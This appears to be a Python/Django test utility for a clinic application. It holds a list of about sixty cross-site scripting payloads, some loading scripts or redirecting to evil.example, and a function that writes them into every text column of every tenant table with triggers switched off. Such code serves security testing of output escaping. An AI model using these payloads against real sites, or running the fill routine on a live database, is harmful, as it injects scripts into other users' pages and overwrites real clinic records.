"""Sixty strings that run a script wherever a page takes them for more than text, and a clinic full of them.

Each says `alert`, which a test hears, or asks another host for something. The ways are those of OWASP's XSS
Filter Evasion Cheat Sheet and of the HTML standard's parser; the texts are our own.
"""

from collections.abc import Iterator

from django.apps import apps
from django.conf import settings
from django.db import Error, connections, models, transaction
from django.db.backends.utils import CursorWrapper
from psycopg import sql

from clinic.db.current import connection

ELEMENTS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script >",
    "<img src=x onerror=alert(1)>",
    '<img/src="x"/onerror=alert(1)>',
    "<IMG SRC=x oNeRrOr=alert(1)>",
    "<img src=`x` onerror=alert(1)//",
    "<img srcset=x onerror=alert(1)>",
    "<img src=//evil.example/x.png>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi><style><img src=x onerror=alert(1)></style></mi></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="java\tscript:alert(1)">x</a>',
    "<a href=&#106;avascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<div style=background:url(//evil.example/x.png)>x</div>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<div hx-get=//evil.example hx-trigger=load>x</div>",
    "<div hx-on::load=alert(1) hx-get=/ hx-trigger=load>x</div>",
)
# Out of an attribute, a script, a comment, an element that holds text alone, a template.
WAYS_OUT = (
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "</template><img src=x onerror=alert(1)>",
    "';alert(1)//",
    '\\";alert(1)//',
    "${alert(1)}`-alert(1)-`",
    "{{ 7|add:7 }}{% debug %}<img src=x onerror=alert(1)>",
    "javascript:alert(1)//<img src=x onerror=alert(1)>",
)
STRINGS = (*ELEMENTS, *WAYS_OUT)
ALL = "\n".join(STRINGS)
# For a field that holds less than the shortest of them.
SHORT = "<b onclick=alert(1)>"


def fitting(number: int, length: int | None) -> str:
    """What a field of `length` characters is given as string `number`: all of them where there is room."""
    if length is None or length >= len(ALL):
        return ALL
    turned = [STRINGS[(number + place) % len(STRINGS)] for place in range(len(STRINGS))]
    return next((string for string in turned if len(string) <= length), SHORT[:length])


def poison() -> dict[str, str]:
    """Put the strings into every text of every table of the clinic we are in, past forms and triggers.

    Each row of a table gets other ones. Answers with the columns that the database keeps free of them.
    """
    owner, refused = connections["owner"], {}
    with owner.cursor() as cursor:
        cursor.execute("SET session_replication_role = replica")
        cursor.execute(f'SET search_path = "{connection.schema_name}", public')
        for model, field in texts():
            if problem := _filled(cursor, model, field):
                refused[f"{model._meta.label}.{field.name}"] = problem
        cursor.execute("SET session_replication_role = DEFAULT")
    return refused


def texts() -> Iterator[tuple[type[models.Model], models.Field]]:
    """Every column of a clinic's tables in which somebody's words can stand."""
    labels = {config.label for config in apps.get_app_configs() if config.name in settings.TENANT_APPS}
    for model in apps.get_models():
        if model._meta.app_label in labels - {"sessions", "idempotency", "jobs"}:
            for field in model._meta.concrete_fields:
                is_text = isinstance(field, models.CharField | models.TextField | models.JSONField)
                is_made = field.choices or field.generated or field.primary_key or "hash" in field.name
                if is_text and not is_made:
                    yield model, field


def _filled(cursor: CursorWrapper, model: type[models.Model], field: models.Field) -> str:
    """Fill the column in every row; where that is refused, in those that say something. What refuses."""
    problem = ""
    for rows in ("true", "{column}::text <> ''"):
        try:
            with transaction.atomic("owner"):
                _fill(cursor, model, field, rows)
        except Error as error:
            problem = str(error).splitlines()[0]
        else:
            return ""
    return problem


# The same in each text of a value; instants stay, which no person types.
IN_JSON = """(
    SELECT jsonb_object_agg(
        key, CASE WHEN value::text ~ '^"[^0-9]' THEN to_jsonb(pool.said) ELSE value END
    )
    FROM jsonb_each(CASE jsonb_typeof({column}) WHEN 'object' THEN {column} ELSE '{{"said": ""}}' END)
)"""


FILL = """
UPDATE {table} SET {column} = {said} FROM (
    SELECT ctid AS row, row_number() OVER ()::int AS number,
        (%s::text[])[1 + (row_number() OVER () + %s) %% %s] AS said
    FROM {table} WHERE {rows}
) pool WHERE {table}.ctid = pool.row
"""


def _fill(cursor: CursorWrapper, model: type[models.Model], field: models.Field, rows: str) -> None:
    table, column = model._meta.db_table, field.column
    length = 30 if field.unique else field.max_length
    pool = [fitting(number, length) for number in range(len(STRINGS))]
    which = sql.SQL(IN_JSON if isinstance(field, models.JSONField) else "pool.said")
    if field.unique:
        which = sql.SQL("left(pool.said, 24) || pool.number")
    names = {
        "table": sql.Identifier(table),
        "column": sql.Identifier(column),
    }
    names["rows"] = sql.SQL(rows).format(**names)
    statement = sql.SQL(FILL).format(said=which.format(**names), **names).as_string(None)
    cursor.execute(statement, [pool, sum(map(ord, table + column)), len(pool)])
